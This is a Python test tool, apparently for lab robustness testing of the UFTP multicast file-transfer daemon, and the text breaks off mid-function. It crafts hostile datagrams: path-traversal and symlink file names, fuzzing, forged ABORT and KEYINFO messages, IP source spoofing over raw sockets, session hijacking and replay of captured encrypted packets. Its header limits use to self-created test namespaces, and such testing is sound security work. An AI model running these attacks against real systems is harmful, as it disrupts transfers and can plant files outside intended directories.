#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""uftp_craft.py - build and send UFTP 4.x datagrams (test tool, stdlib only).

Plays a rogue server or a stranger against a uftpd in a test lab. Never point
it at anything but a namespace you created.

  uftp_craft.py rogue --src 198.18.0.13 --target-id 0xC612000B \
        --name '../escape' --name 'link:lnk=>/tmp' --name 'ok\\x00../x' [--fuzz 300]
      Announces an unencrypted open-group session on --pub, registers the
      target, then sends one FILEINFO per --name (python escapes allowed;
      prefixes "dir:" and "link:NAME=>TARGET"; default a regular file whose
      content is --data), data + DONE when the receiver accepts, and prints
          RESULT <repr(name)> accepted|rejected|aborted:<msg>|no-reply
      A session the receiver aborts is replaced by a fresh one. --fuzz N then
      sends N randomly mutated FILEINFO/FILESEG/DONE datagrams in the session.
      Ends the session with DONE(0) / DONE_CONF. Exit 0 unless the receiver
      never registered (exit 3).

  uftp_craft.py sniff [--pub 230.4.4.1] [--timeout 10]
      Prints "ANNOUNCE group=0x.. server=0x.. from=IP:PORT priv=ADDR" for the
      first ANNOUNCE on the public group (exit 1 if none).

  uftp_craft.py junk --to IP:PORT [--group 0x..] [--src-id 0x..] [--count N]
      Sends garbage (random lengths 0..1500, random bytes; valid header with
      random body; bad version byte) and every truncation of well-formed
      ANNOUNCE, REG_CONF, FILEINFO, FILESEG, DONE, DONE_CONF, ABORT, ENCRYPTED
      and KEYINFO messages carrying --group/--src-id (never a complete one),
      plus header-length fields pointing past the end.

  uftp_craft.py inject --to IP:PORT --group 0x.. --src-id 0x.. [--file-id 1]
      Forged data for a running session: plaintext FILESEGs with garbage
      blocks (must be ignored in an encrypted session) and ENCRYPTED datagrams
      with random ciphertext (must fail authentication), several rounds.

  uftp_craft.py abort --to IP:PORT --group 0x.. --src-id 0x.. [--host 0] [--count 3]
      Sends well-formed ABORT messages (what a stranger would send).

Wire facts used (UFTP 4.10.2): version byte 0x40, 16-byte header (ver, func,
seq16, src id, group id, group inst, grtt, gsize, reserved), names NUL-padded
to 4-byte words, IDs big-endian.
"""
import argparse
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

VERSION = 0x40
ANNOUNCE, REGISTER, CLIENT_KEY, REG_CONF, KEYINFO, KEYINFO_ACK = 1, 2, 3, 4, 5, 6
FILEINFO, FILEINFO_ACK, FILESEG, DONE, STATUS, COMPLETE = 7, 8, 9, 10, 11, 12
DONE_CONF, HB_REQ, HB_RESP, KEY_REQ, PROXY_KEY, ENCRYPTED, ABORT = 13, 14, 15, 16, 17, 18, 19
NAMES = {v: k for k, v in dict(globals()).items() if isinstance(v, int) and k.isupper() and k != "VERSION"}
GRTT_05S = 0x9D  # 0.5 s quantized
BLOCK = 1300


def header(func, seq, src_id, group_id, inst=0, grtt=GRTT_05S, gsize=0x18):
    return struct.pack(">BBHIIBBBB", VERSION, func, seq & 0xFFFF, src_id, group_id, inst, grtt, gsize, 0)


def pad4(b):
    return b + b"\0" * (-len(b) % 4)


def ids(lst):
    return b"".join(struct.pack(">I", i) for i in lst)


def now_ts():
    t = time.time()
    return int(t), int((t - int(t)) * 1e6)


def announce_body(pub, priv, robust=20, flags=0):
    s, us = now_ts()
    pa = ipaddress.ip_address(pub).packed
    pr = ipaddress.ip_address(priv).packed
    if len(pa) == 16:
        flags |= 0x04
    body = struct.pack(">BBBBBBHII", ANNOUNCE, 0, flags, robust, 0, 0, BLOCK, s, us) + pa + pr
    return bytes([ANNOUNCE, len(body) // 4]) + body[2:]


def reg_conf_body(clients):
    return struct.pack(">BBH", REG_CONF, 1, 0) + ids(clients)


def fileinfo_body(file_id, ftype, name, link=b"", size=0, mtime=1500000000, clients=(), nlen=None, llen=None):
    n, lk = pad4(name), pad4(link)
    nlen = len(n) // 4 if nlen is None else nlen
    llen = len(lk) // 4 if llen is None else llen
    s, us = now_ts()
    hlen = (28 + len(n) + len(lk)) // 4
    fixed = struct.pack(">BBHB3xBBHIIII", FILEINFO, hlen & 0xFF, file_id, ftype, nlen & 0xFF, llen & 0xFF,
                        (size >> 32) & 0xFFFF, size & 0xFFFFFFFF, mtime, s, us)
    return fixed + n + lk + ids(clients)


def fileseg_body(file_id, section, block, data):
    return struct.pack(">BBHHH", FILESEG, 2, file_id, section, block) + data


def done_body(file_id, section, clients):
    return struct.pack(">BBHHH", DONE, 2, file_id, section, 0) + ids(clients)


def done_conf_body(clients):
    return struct.pack(">BBH", DONE_CONF, 1, 0) + ids(clients)


def abort_body(msg, host=0, flags=0):
    return struct.pack(">BBBBI", ABORT, 77, flags, 0, host) + msg.encode()[:299].ljust(300, b"\0")


def encrypted_body(payload, counter=1, sig=b""):
    """ENCRYPTED has no function byte of its own: IV counter, lengths, sig, payload"""
    return struct.pack(">IIHH", counter >> 32, counter & 0xFFFFFFFF, len(sig), len(payload)) + sig + payload


def keyinfo_body(clients):
    return struct.pack(">BBHII", KEYINFO, 3, 0, 0, 1) + b"".join(struct.pack(">I", c) + os.urandom(48) for c in clients)


def parse(d):
    """-> (func, src_id, group_id, body) or None"""
    if len(d) < 16 or d[0] != VERSION:
        return None
    _, func, _, src, grp = struct.unpack(">BBHII", d[:12])
    return func, src, grp, d[16:]


def unescape(s):
    return s.encode("latin-1", "backslashescape").decode("unicode_escape").encode("latin-1")


def family(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def mcast_sock(src, ttl=1):
    fam = family(src)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.bind((src, 0))
    if fam == socket.AF_INET:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
    else:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, ttl)
    return s


def hostport(s):
    h, _, p = s.rpartition(":")
    return h.strip("[]"), int(p)


# ---------------------------------------------------------------- rogue server
class Rogue:
    def __init__(self, a):
        self.a = a
        self.sock = mcast_sock(a.src)
        self.my_id = a.my_id if a.my_id is not None else int.from_bytes(ipaddress.ip_address(a.src).packed[-4:], "big")
        self.seq = 0
        self.group = 0
        self.file_id = 0
        self.target = a.target_id
        self.registered = False
        self.client_addr = None

    def send(self, body, dest):
        d = header(body[0], self.seq, self.my_id, self.group, gsize=0x18) + body
        self.seq += 1
        self.sock.sendto(d, dest)

    def recv(self, timeout):
        """next reply for our group from the target within timeout: (func, body) or None"""
        end = time.time() + timeout
        while True:
            left = end - time.time()
            if left <= 0:
                return None
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return None
            d, addr = self.sock.recvfrom(65536)
            p = parse(d)
            if not p:
                continue
            func, src, grp, body = p
            if grp != self.group:
                continue
            if src != self.target:
                continue
            self.client_addr = addr
            return func, body

    def pub(self):
        return (self.a.pub, self.a.port)

    def priv(self):
        return (self.a.priv, self.a.port)

    def start(self):
        """announce until the target registers (bounded)"""
        self.group = int.from_bytes(os.urandom(4), "big") | 1
        self.file_id = 0
        self.registered = False
        for _ in range(self.a.announces):
            self.send(announce_body(self.a.pub, self.a.priv), self.pub())
            r = self.recv(0.5)
            while r and r[0] not in (REGISTER, ABORT):
                r = self.recv(0.5)
            if r and r[0] == REGISTER:
                self.registered = True
                break
            if r and r[0] == ABORT:
                print("NOTE receiver aborted at announce: %r" % abort_msg(r[1]), flush=True)
                return False
        if not self.registered:
            return False
        for _ in range(3):
            self.send(reg_conf_body([self.target]), self.priv())
            time.sleep(0.05)
        return True

    def offer(self, entry):
        """one FILEINFO; returns outcome string"""
        self.file_id += 1
        fid = self.file_id
        ftype, name, link, data = entry
        body = fileinfo_body(fid, ftype, name, link, len(data) if ftype == 0 else 0, clients=[self.target])
        for _ in range(6):
            self.send(body, self.priv())
            end = time.time() + 0.5
            while time.time() < end:
                r = self.recv(end - time.time())
                if not r:
                    break
                func, rb = r
                if func == FILEINFO_ACK and struct.unpack(">H", rb[2:4])[0] == fid:
                    return self.push(fid, data)
                if func == COMPLETE and struct.unpack(">H", rb[2:4])[0] == fid:
                    return "rejected" if rb[4] == 3 else "accepted(status %d)" % rb[4]
                if func == ABORT:
                    return "aborted:" + abort_msg(rb)
        return "no-reply"

    def push(self, fid, data):
        blocks = [data[i:i + BLOCK] for i in range(0, len(data), BLOCK)] or []
        for _ in range(6):
            for n, b in enumerate(blocks):
                self.send(fileseg_body(fid, 0, n, b), self.priv())
            self.send(done_body(fid, 0, [self.target]), self.priv())
            end = time.time() + 0.5
            while time.time() < end:
                r = self.recv(end - time.time())
                if not r:
                    break
                func, rb = r
                if func == COMPLETE and struct.unpack(">H", rb[2:4])[0] == fid:
                    return "accepted" if rb[4] != 3 else "rejected(after data)"
                if func == ABORT:
                    return "aborted:" + abort_msg(rb)
        return "accepted(no COMPLETE)"

    def fuzz(self, n, rng):
        base = [
            fileinfo_body(1000, 0, b"fuzz/f.bin", size=100, clients=[self.target]),
            fileinfo_body(1001, 2, b"fuzz/l", b"target", clients=[self.target]),
            fileseg_body(1000, 0, 0, b"x" * 100),
            done_body(1000, 0, [self.target]),
            done_body(0, 0, [self.target]),
            reg_conf_body([self.target]),
            abort_body("fuzz", host=self.target),
        ]
        for i in range(n):
            b = bytearray(rng.choice(base))
            for _ in range(rng.randint(1, 6)):
                pos = rng.randrange(len(b))
                b[pos] = rng.randrange(256)
            if rng.random() < 0.3:
                b = b[: rng.randrange(len(b) + 1)]
            if not b:
                b = bytearray(b"\x07")
            self.send(bytes(b), self.priv())
            if i % 20 == 19:
                time.sleep(0.01)
                while self.recv(0.001):
                    pass

    def finish(self):
        for _ in range(4):
            self.send(done_body(0, 0, [self.target]), self.priv())
            r = self.recv(0.5)
            while r and r[0] != COMPLETE:
                r = self.recv(0.5)
            if r:
                self.send(done_conf_body([self.target]), self.priv())
                return True
        return False


def abort_msg(body):
    return body[8:308].split(b"\0")[0].decode("latin-1", "replace")


def parse_entry(s, data):
    raw = unescape(s)
    if raw.startswith(b"dir:"):
        return 1, raw[4:], b"", b""
    if raw.startswith(b"link:"):
        n, _, t = raw[5:].partition(b"=>")
        return 2, n, t, b""
    if raw.startswith(b"file:"):
        raw = raw[5:]
    return 0, raw, b"", data


def cmd_rogue(a):
    random.seed(a.seed)
    r = Rogue(a)
    entries = [parse_entry(n, unescape(a.data)) for n in a.name]
    if not r.start():
        print("ERROR target 0x%08X never registered" % a.target_id, flush=True)
        return 3
    print("SESSION group=0x%08X" % r.group, flush=True)
    for e in entries:
        out = r.offer(e)
        print("RESULT %r %s" % ((e[1] + (b"=>" + e[2] if e[2] else b"")).decode("latin-1"), out), flush=True)
        if out.startswith("aborted") or out == "no-reply":
            if not r.start():
                print("ERROR target did not register again", flush=True)
                return 3
            print("SESSION group=0x%08X (new)" % r.group, flush=True)
    if a.fuzz:
        r.fuzz(a.fuzz, random.Random(a.seed))
        print("FUZZ sent %d mutated datagrams" % a.fuzz, flush=True)
    print("END %s" % ("done" if r.finish() else "no final COMPLETE"), flush=True)
    return 0


# ---------------------------------------------------------------- sniff
def cmd_sniff(a):
    fam = family(a.pub)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", a.port))
    if fam == socket.AF_INET:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(a.pub) + socket.inet_aton(a.src or "0.0.0.0"))
    else:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(fam, a.pub) + struct.pack("@I", 0))
    end = time.time() + a.timeout
    while time.time() < end:
        r, _, _ = select.select([s], [], [], end - time.time())
        if not r:
            break
        d, addr = s.recvfrom(65536)
        p = parse(d)
        if not p or p[0] != ANNOUNCE or len(p[3]) < 24:
            continue
        body = p[3]
        v6 = body[2] & 0x04
        alen = 16 if v6 else 4
        priv = body[16 + alen:16 + 2 * alen]
        print("ANNOUNCE group=0x%08X server=0x%08X from=%s:%d priv=%s" % (
            p[2], p[1], addr[0], addr[1], ipaddress.ip_address(bytes(priv))), flush=True)
        return 0
    return 1


# ---------------------------------------------------------------- junk / abort
def cmd_junk(a):
    rng = random.Random(a.seed)
    host, port = hostport(a.to)
    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
    g, sid, cid = a.group, a.src_id, a.client_id
    sent = 0

    def tx(d):
        nonlocal sent
        s.sendto(bytes(d), (host, port))
        sent += 1
        if sent % 50 == 0:
            time.sleep(0.005)

    # pure garbage
    for _ in range(a.count):
        tx(os.urandom(rng.randint(0, 1500)))
    # valid header, garbage body, every function code 0..255
    for f in range(256):
        tx(header(f, f, sid, g) + os.urandom(rng.randint(0, 64)))
    # bad version bytes
    for v in (0x00, 0x30, 0x41, 0xFF):
        tx(bytes([v]) + header(FILEINFO, 1, sid, g)[1:] + fileinfo_body(1, 0, b"v.bin", size=5, clients=[cid]))
    # every truncation of well-formed messages (never the whole datagram)
    msgs = [
        announce_body("230.4.4.1", "230.5.5.9"),
        announce_body("ff15::4:4:1", "ff15::5:5:9"),
        reg_conf_body([cid]),
        fileinfo_body(1, 0, b"truncated.bin", size=5, clients=[cid]),
        fileinfo_body(2, 2, b"trunc-link", b"/etc", clients=[cid]),
        fileseg_body(1, 0, 0, b"hello"),
        done_body(1, 0, [cid]),
        done_conf_body([cid]),
        abort_body("truncated abort", host=0),
        keyinfo_body([cid]),
    ]
    full = [header(m[0], 0, sid, g) + m for m in msgs]
    full.append(header(ENCRYPTED, 0, sid, g) + encrypted_body(os.urandom(48)))
    for d in full:
        for n in range(len(d)):
            tx(d[:n])
    # length fields pointing past the end of the datagram
    for d in full:
        d = bytearray(d)
        d[17] = 0xFF  # header length (words) / IV byte for ENCRYPTED
        tx(d)
    enc = bytearray(header(ENCRYPTED, 0, sid, g) + encrypted_body(os.urandom(48)))
    enc[26:28] = b"\xff\xf0"  # payload length beyond the datagram
    tx(enc)
    fi = bytearray(header(FILEINFO, 0, sid, g) + fileinfo_body(3, 0, b"x", size=1, clients=[cid]))
    fi[16 + 8] = 0xFF  # name length (words) beyond the header
    tx(fi)
    fi = bytearray(header(FILEINFO, 0, sid, g) + fileinfo_body(3, 2, b"x", b"y", clients=[cid]))
    fi[16 + 9] = 0xFF  # link length beyond the header
    tx(fi)
    print("JUNK sent %d datagrams to %s:%d" % (sent, host, port), flush=True)
    return 0


def cmd_abort(a):
    host, port = hostport(a.to)
    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
    for i in range(a.count):
        s.sendto(header(ABORT, i, a.src_id, a.group) + abort_body(a.msg, host=a.host), (host, port))
        time.sleep(0.02)
    print("ABORT sent %d to %s:%d group=0x%08X src-id=0x%08X" % (a.count, host, port, a.group, a.src_id), flush=True)
    return 0


def cmd_inject(a):
    """well-formed but forged data for a running session: plaintext FILESEGs
    (garbage blocks) and ENCRYPTED datagrams with random ciphertext"""
    host, port = hostport(a.to)
    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
    sent = 0
    for rnd in range(a.rounds):
        for blk in range(a.blocks):
            s.sendto(header(FILESEG, sent, a.src_id, a.group) + fileseg_body(a.file_id, 0, blk, b"\xee" * BLOCK), (host, port))
            sent += 1
            for ln in (16, 48, 64 + 16, BLOCK + 32):
                s.sendto(header(ENCRYPTED, sent, a.src_id, a.group) + encrypted_body(os.urandom(ln), counter=2 + sent), (host, port))
                sent += 1
            if sent % 50 == 0:
                time.sleep(0.005)
        time.sleep(0.2)
    print("INJECT sent %d forged FILESEG/ENCRYPTED datagrams to %s:%d group=0x%08X" % (sent, host, port, a.group), flush=True)
    return 0



# ---------------------------------------------------------------- hostile-wire additions
def spoof_sock():
    """raw IPv4 socket to send datagrams with any source address:port"""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def spoof_send(rs, src, dst, data):
    """one UDP datagram from src=(ip,port) to dst=(ip,port), IPv4 only, UDP checksum 0"""
    ulen = 8 + len(data)
    dgram = struct.pack(">HHHH", src[1], dst[1], ulen, 0) + data
    ident = random.randrange(65536)
    step = 1480  # fragments of a 1500-byte MTU (raw sockets are not fragmented for us)
    for off in range(0, len(dgram), step):
        frag = dgram[off:off + step]
        more = 0x2000 if off + step < len(dgram) else 0
        iph = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(frag), ident, more | (off // 8), 1, 17, 0,
                          socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
        c = sum(struct.unpack(">10H", iph))
        while c >> 16:
            c = (c & 0xFFFF) + (c >> 16)
        iph = iph[:10] + struct.pack(">H", ~c & 0xFFFF) + iph[12:]
        rs.sendto(iph + frag, (dst[0], 0))


def register_body(clients=(), keyinfo=b""):
    s, us = now_ts()
    body = struct.pack(">BBHII", REGISTER, 0, len(keyinfo), s, us) + os.urandom(32) + pad4(keyinfo)
    return bytes([REGISTER, len(body) // 4]) + body[2:] + ids(clients)


def client_key_body(key=b"", sig=b""):
    k, g = key, sig
    body = struct.pack(">BBHHH", CLIENT_KEY, (8 + len(k) + len(g) + 3) // 4, 0, len(k), len(g)) + k + g
    return pad4(body)


def keyinfo_ack_body(verify):
    return struct.pack(">BBH", KEYINFO_ACK, 4, 0) + verify[:12].ljust(12, b"\0")


def fileinfo_ack_body(file_id, clients=(), flags=0):
    s, us = now_ts()
    return struct.pack(">BBHB3xII", FILEINFO_ACK, 4, file_id, flags, s, us) + ids(clients)


def status_body(file_id, section, naks):
    return struct.pack(">BBHHH", STATUS, 2, file_id, section, 0) + naks


def complete_body(file_id, status=0, clients=()):
    return struct.pack(">BBHB3x", COMPLETE, 2, file_id, status) + ids(clients)


def cmd_wire(a):
    """header/length/size attacks with the live session's group and server ID
    (from the attacker's address, or spoofed from the server's with --spoof)"""
    host, port = hostport(a.to)
    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
    rs = spoof_sock() if a.spoof else None
    spoof = hostport(a.spoof) if a.spoof else None
    g, sid, cid = a.group, a.src_id, a.client_id
    cnt = {}

    def tx(kind, d):
        d = bytes(d)
        if rs:
            if len(d) > 65507 - 28:
                d = d[:65507 - 28]
            spoof_send(rs, spoof, (host, port), d)
        else:
            s.sendto(d, (host, port))
        cnt[kind] = cnt.get(kind, 0) + 1
        if sum(cnt.values()) % 40 == 0:
            time.sleep(0.004)

    good = [fileinfo_body(1, 0, b"hello.txt", size=5, clients=[cid]),
            fileseg_body(1, 0, 0, b"w" * 100), done_body(1, 0, [cid]),
            done_conf_body([cid]), reg_conf_body([cid]), abort_body("wire", host=cid),
            keyinfo_body([cid])]
    if a.safe:
        # spoofed from the server: nothing a real server could send (an
        # unused file ID; no FILEINFO, DONE_CONF, ABORT, KEYINFO)
        good = [fileseg_body(0xFFFE, 0, 0, b"w" * 100), done_body(0xFFFE, 0, [cid])]
    # every version byte but 0x40
    for v in range(256):
        if v == VERSION:
            continue
        for m in good:
            tx("version", bytes([v]) + header(m[0], v, sid, g)[1:] + m)
    # unknown function codes (header and body agree, and disagree)
    for f in [0] + list(range(20, 256)):
        tx("func", header(f, f, sid, g) + bytes([f, 2]) + os.urandom(6))
        tx("func", header(FILESEG, f, sid, g) + bytes([f]) + fileseg_body(0xFFFE, 0, 0, b"x" * 8)[1:])
        tx("func", header(f, f, sid, g) + fileseg_body(0xFFFE, 0, 0, b"x" * 8))
    # header length fields: 0, 1, one short, every value past the datagram
    for m in good:
        for hl in (0, 1, max(0, m[1] - 1), m[1] + 1, 0x40, 0xFF):
            b = bytearray(m)
            b[1] = hl
            tx("hlen", header(m[0], 0, sid, g) + b)
    if a.safe:
        good = []
    # extensions: FILEINFO with an extension of length 0, 1, and past the header
    base = fileinfo_body(1, 0, b"ext.bin", size=5, clients=[cid])
    for et, el in ((1, 0), (2, 0xFF), (3, 1), (0x7F, 2), (0xFF, 0xFF)) if not a.safe else ():
        hw = base[1] + 1
        b = bytearray(base[:4 * base[1]] + bytes([et, el, 0, 0]) + base[4 * base[1]:])
        b[1] = hw
        tx("ext", header(FILEINFO, 0, sid, g) + b)
    # name and link lengths: 0 with a name, one word short, past the header
    for nl, ll in ((0, 0), (1, 0), (0xFF, 0), (0, 0xFF), (0x80, 0x80), (2, 3)) if not a.safe else ():
        tx("namelen", header(FILEINFO, 0, sid, g) + fileinfo_body(2, 2, b"lnk-wire", b"target",
                                                                   clients=[cid], nlen=nl, llen=ll))
    # oversized datagrams, up to the UDP maximum
    for size in (1473, 1500, 4096, 9000, 16384, 32768, 65000, 65507):
        pay = size - 16
        tx("oversize", header(FILESEG, size, sid, g) + fileseg_body(1, 0, 0, os.urandom(max(0, pay - 8))))
        tx("oversize", header(ENCRYPTED, size, sid, g) + encrypted_body(os.urandom(max(0, pay - 12))))
        if not a.safe:
            tx("oversize", header(FILEINFO, size, sid, g) + fileinfo_body(3, 0, b"big.bin", size=5, clients=[cid])
               + os.urandom(max(0, pay - 64)))
    # FILESEG / DONE past the end of any file
    for sec, blk in ((0xFFFF, 0), (0, 0xFFFF), (0xFFFF, 0xFFFF), (1, 0), (0x8000, 0x8000)):
        for fid in range(1 if a.safe else 0, 9):  # DONE for file 0 ends a session (spoofed: legit)
            tx("pastend", header(FILESEG, 0, sid, g) + fileseg_body(fid, sec, blk, b"\xee" * BLOCK))
            tx("pastend", header(DONE, 0, sid, g) + done_body(fid, sec, [cid]))
    # forged KEYINFOs
    for k in range(0 if a.safe else 20):
        tx("keyinfo", header(KEYINFO, k, sid, g) + keyinfo_body([cid, 0xDEAD0000 + k]))
    print("WIRE sent %s to %s:%d%s" % (" ".join("%s=%d" % kv for kv in sorted(cnt.items())), host, port,
                                      " spoofed from %s:%d" % spoof if spoof else ""), flush=True)
    return 0


def cmd_edge(a):
    """rogue session: files the receiver cannot hold, block size edge cases,
    data past the end; a last regular file must arrive exact"""
    random.seed(a.seed)
    out = []
    # 1. block sizes in ANNOUNCE
    for bs in a.bad_blocksize:
        global BLOCK
        saved = BLOCK
        BLOCK = bs
        r = Rogue(a)
        ok = r.start()
        BLOCK = saved
        res = "registered" if ok else "no-register"
        if ok:
            ent = (0, b"bs-%d.bin" % bs, b"", b"x" * 1000000)
            r.file_id += 1
            body = fileinfo_body(r.file_id, 0, ent[1], size=len(ent[3]), clients=[r.target])
            res += ",fileinfo:" + r.offer_raw(body)
            r.finish()
        print("RESULT blocksize=%d %s" % (bs, res), flush=True)
    r = Rogue(a)
    if not r.start():
        print("ERROR target never registered", flush=True)
        return 3
    print("SESSION group=0x%08X" % r.group, flush=True)
    # 2. sizes beyond the disk / beyond 65536 sections
    for size in a.huge:
        r.file_id += 1
        body = fileinfo_body(r.file_id, 0, b"huge-%d.bin" % size, size=size, clients=[r.target])
        res = r.offer_raw(body)
        print("RESULT size=%d %s" % (size, res), flush=True)
        if res.startswith("aborted") or res == "no-reply":
            if not r.start():
                print("ERROR target did not register again", flush=True)
                return 3
            print("SESSION group=0x%08X (new)" % r.group, flush=True)
    # 3. a real file with FILESEG/DONE past its end before its data
    data = open(a.edge_file, "rb").read()
    r.file_id += 1
    fid = r.file_id
    body = fileinfo_body(fid, 0, a.edge_name.encode(), size=len(data), clients=[r.target])
    res = r.offer_raw(body, push=False)
    print("RESULT edge-file fileinfo %s" % res, flush=True)
    nblk = (len(data) + BLOCK - 1) // BLOCK
    for sec, blk, ln in ((1, 0, BLOCK), (0, nblk, BLOCK), (0, nblk + 1, 5), (0xFFFF, 0xFFFF, BLOCK),
                         (0, 0xFFFF, BLOCK), (0, nblk - 1, BLOCK), (0, 0, BLOCK + 1), (0, 0, 1)):
        r.send(fileseg_body(fid, sec, blk, b"\xee" * ln), r.priv())
    for sec in (1, 2, 0xFFFF):
        r.send(done_body(fid, sec, [r.target]), r.priv())
    time.sleep(0.3)
    while r.recv(0.05):
        pass
    print("RESULT edge-file data %s" % r.push(fid, data), flush=True)
    print("END %s" % ("done" if r.finish() else "no final COMPLETE"), flush=True)
    return 0


def _offer_raw(self, body, push=True):
    fid = struct.unpack(">H", body[2:4])[0]
    for _ in range(4):
        self.send(body, self.priv())
        end = time.time() + 0.5
        while time.time() < end:
            r = self.recv(end - time.time())
            if not r:
                break
            func, rb = r
            if func == FILEINFO_ACK and struct.unpack(">H", rb[2:4])[0] == fid:
                return "accepted"
            if func == COMPLETE and struct.unpack(">H", rb[2:4])[0] == fid:
                return "rejected" if rb[4] == 3 else "complete(status %d)" % rb[4]
            if func == ABORT:
                return "aborted:" + abort_msg(rb)
    return "no-reply"


Rogue.offer_raw = _offer_raw


def cmd_hijack(a):
    """a second server reusing a live group ID: its own server ID from its own
    address, and the live server's ID from another address"""
    s = mcast_sock(a.src)
    pub, priv = (a.pub, a.port), (a.priv, a.port)
    cid = a.client_id
    n = 0
    end = time.time() + a.duration
    while time.time() < end:
        for sid in (a.my_id, a.server_id):
            for inst in (0, 1):
                s.sendto(header(ANNOUNCE, n, sid, a.group, inst) + announce_body(a.pub, a.priv), pub)
                s.sendto(header(REG_CONF, n, sid, a.group, inst) + reg_conf_body([cid]), priv)
                s.sendto(header(FILEINFO, n, sid, a.group, inst) + fileinfo_body(
                    1 + n % 7, 0, b"hijack-%d.bin" % n, size=2000, clients=[cid]), priv)
                s.sendto(header(FILESEG, n, sid, a.group, inst) + fileseg_body(1 + n % 7, 0, 0, b"\xee" * BLOCK), priv)
                s.sendto(header(DONE, n, sid, a.group, inst) + done_body(1 + n % 7, 0, [cid]), priv)
                s.sendto(header(DONE_CONF, n, sid, a.group, inst) + done_conf_body([cid]), priv)
                s.sendto(header(ABORT, n, sid, a.group, inst) + abort_body("hijack", host=cid), priv)
                n += 7
        time.sleep(0.05)
    print("HIJACK sent %d datagrams for group 0x%08X (server IDs 0x%08X, 0x%08X)" % (
        n, a.group, a.my_id, a.server_id), flush=True)
    return 0


def cmd_replay(a):
    """capture the ENCRYPTED datagrams of a live session, then re-send them
    spoofed from the server's address (verbatim, and with a flipped byte in
    the signature, the ciphertext and the IV counter)"""
    srv = hostport(a.server)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", a.port))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(a.priv) + socket.inet_aton(a.src))
    caught = []
    end = time.time() + a.capture
    while time.time() < end and len(caught) < a.max:
        r, _, _ = select.select([s], [], [], end - time.time())
        if not r:
            break
        d, addr = s.recvfrom(65536)
        p = parse(d)
        if p and p[0] == ENCRYPTED and p[2] == a.group and addr[0] == srv[0]:
            caught.append(d)
    print("REPLAY captured %d ENCRYPTED datagrams" % len(caught), flush=True)
    if not caught:
        return 1
    time.sleep(a.delay)
    rs = spoof_sock()
    dst = hostport(a.to)
    sent = 0
    for rnd in range(a.rounds if a.mode in ("both", "verbatim") else 0):
        for d in caught:
            spoof_send(rs, srv, dst, d)
            sent += 1
            if sent % 20 == 0:
                time.sleep(0.003)
    print("REPLAY re-sent %d verbatim" % sent, flush=True)
    mut = 0
    for d in caught[: a.max] if a.mode in ("both", "altered") else []:
        siglen = struct.unpack(">H", d[24:26])[0]
        for pos in ([28] if siglen else []) + [28 + siglen + 3, len(d) - 1, 23, 27]:
            b = bytearray(d)
            if pos < len(b):
                b[pos] ^= 0x5A
                spoof_send(rs, srv, dst, bytes(b))
                mut += 1
        if mut % 20 == 0:
            time.sleep(0.003)
    print("REPLAY sent %d altered (signature, ciphertext, last byte, IV counter, lengths)" % mut, flush=True)
    if a.keyinfo_for:
        sid = struct.unpack(">I", caught[0][4:8])[0]
        inst = caught[0][12]
        for k in range(a.keyinfo):
            body = bytearray(keyinfo_body([a.keyinfo_for, 0x0DDBA11 + k]))
            body[4:12] = struct.pack(">Q", 1 + k)  # IV counter
            spoof_send(rs, srv, dst, header(KEYINFO, k, sid, a.group, inst) + bytes(body))
        print("REPLAY sent %d forged KEYINFOs for 0x%08X" % (a.keyinfo, a.keyinfo_for), flush=True)
    return 0


def cmd_atserver(a):
    """attacks at a uftp server: messages from unknown client IDs, bad NAKs
    under the real client's ID, ABORT from a stranger naming the client,
    forged KEYINFO_ACK and CLIENT_KEY, garbage and truncations"""
    host, port = hostport(a.to)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.src, 0))
    g, cid = a.group, a.client_id
    cnt = {}

    only = set(a.only.split(",")) if a.only else None

    def tx(kind, sid, body, raw=None):
        if only is not None and kind not in only:
            return
        d = raw if raw is not None else header(body[0], 0, sid, g) + body
        s.sendto(bytes(d), (host, port))
        cnt[kind] = cnt.get(kind, 0) + 1
        if sum(cnt.values()) % 40 == 0:
            time.sleep(0.004)

    end = time.time() + a.duration
    rnd = 0
    while time.time() < end:
        for k in range(20):
            u = 0x0B000000 + rnd * 20 + k
            tx("unknown", u, register_body())
            tx("unknown", u, fileinfo_ack_body(1 + k % 4))
            tx("unknown", u, status_body(1 + k % 4, 0, b"\xff" * 64))
            tx("unknown", u, complete_body(1 + k % 4))
            tx("unknown", u, complete_body(0))
            tx("unknown", u, keyinfo_ack_body(os.urandom(12)))
            tx("unknown", u, None, header(ENCRYPTED, 0, u, g) + encrypted_body(os.urandom(64)))
        # NAK maps past the section / for sections that do not exist, as the real client
        for fid in range(1, 6):
            for sec in (0, 1, 2, 100, 0x7FFF, 0xFFFF):
                tx("naks", cid, status_body(fid, sec, b"\x00" * 2 + b"\xff" * 1400))
                tx("naks", cid, status_body(fid, sec, b""))
                tx("naks", cid, status_body(fid, sec, b"\x00" * 1300 + b"\xff" * 5000))
        # ABORT from a stranger naming the client
        for k in range(3):
